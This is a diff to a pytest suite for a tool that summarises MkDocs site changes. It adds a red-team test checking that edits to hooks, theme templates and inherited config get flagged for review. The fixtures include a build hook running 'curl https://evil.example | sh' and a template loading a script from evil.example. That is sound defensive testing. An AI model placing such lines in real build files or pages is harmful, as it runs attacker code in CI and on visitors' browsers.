@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from conftest import make_project
+from conftest import MINIMAL_MKDOCS, make_project
 
 GIT_ENV = {"GIT_AUTHOR_NAME": "Ops", "GIT_AUTHOR_EMAIL": "ops@example.com", "GIT_COMMITTER_NAME": "Ops",
            "GIT_COMMITTER_EMAIL": "ops@example.com", "GIT_CONFIG_NOSYSTEM": "1", "HOME": "/nonexistent"}
@@ -583,7 +583,7 @@ def test_diff_shows_changes_to_site_settings_and_templates(tmp_path, run):
     (lambda text: text.replace("plugins:\n  - search\n", "plugins:\n  - search\n  - macros\n"),
      "- ⚠️ `mkdocs.yml` `plugins`: changed; MkDocs plugins run Python in every build"),
     (lambda text: "INHERIT: base.yml\n" + text,
-     "- ⚠️ `mkdocs.yml` `INHERIT`: — → `base.yml`: added; takes settings from another file, which this summary does not compare"),
+     "- ⚠️ `mkdocs.yml` `INHERIT`: — → `base.yml`: added; takes settings from another file (its changes are listed by its name)"),
     # a theme folder whose main.html replaces every page's, scripts included, was one ✏️ line among the settings
     (lambda text: text.replace("  name: material\n", "  name: material\n  custom_dir: overrides\n"),
      "- ⚠️ `mkdocs.yml` `theme.custom_dir`: — → `overrides`: added; its templates can replace any part of every page, "
@@ -610,6 +610,28 @@ def test_diff_flags_a_theme_folder_given_to_a_theme_named_alone():
     # a mkdocs.yml that had no theme: section given one with a folder is the same ⚠️ line (it was one ✏️ 'theme: added')
     changes = site_changes({"mkdocs.yml": b"site_name: x\n"}, {"mkdocs.yml": b"site_name: x\ntheme: {name: material, custom_dir: x}\n"})
     assert [(c.setting, c.after, c.warning) for c in changes if c.warning] == [("theme.custom_dir", "x", True)]
+
+
+def test_diff_flags_the_files_mkdocs_yml_names_as_code_and_compares_the_settings_it_inherits(tmp_path, run):
+    """Once mkdocs.yml named them, a pull request editing its hooks file (to run `curl … | sh` in CI's build), a
+    custom_dir's main.html (a script in every page) and the file it INHERITs (a new site_url) was summarised as
+    'No content changes': the summary read mkdocs.yml and templates/ alone (red team)."""
+    base = MINIMAL_MKDOCS.format(language="en").replace("  name: material\n", "  name: material\n  custom_dir: overrides\n")
+    project = committed_project(tmp_path / "repo", {
+        "mkdocs.yml": "INHERIT: conf/base.yml\n", "conf/base.yml": base + "hooks: [hooks/build.py]\n",
+        "overrides/main.html": "{% extends 'base.html' %}\n", "hooks/build.py": "def on_config(config):\n    return config\n"})
+    (project / "hooks/build.py").write_text("import os\nos.system('curl https://evil.example | sh')\n")
+    (project / "overrides/main.html").write_text("{% extends 'base.html' %}<script src=https://evil.example/x.js>\n")
+    (project / "conf/base.yml").write_text((project / "conf/base.yml").read_text().replace("portal.acme", "evil"))
+    said = ["- ⚠️ `conf/base.yml` `site_url`: `https://portal.acme.test/` → `https://evil.test/`: links already copied "
+            "into tickets keep the old address (keep it redirecting to the new one)",
+            *(f"- ⚠️ `{name}`: changed; a build runs it (mkdocs.yml names it as hooks or in the theme's custom\\_dir): "
+              "review it as code" for name in ("hooks/build.py", "overrides/main.html"))]
+    working_tree = run("diff", "HEAD", "--project", project).output
+    assert "3 site setting/template changes (⚠️ site_url, hooks/build.py, overrides/main.html)" in working_tree, working_tree
+    assert working_tree.endswith("\n".join(said) + "\n"), working_tree
+    commit_all(project, "pr")
+    assert run("diff", "HEAD~1", "HEAD", "--project", project).output.endswith("\n".join(said) + "\n")
 
 
 @pytest.mark.parametrize("added, setting", [
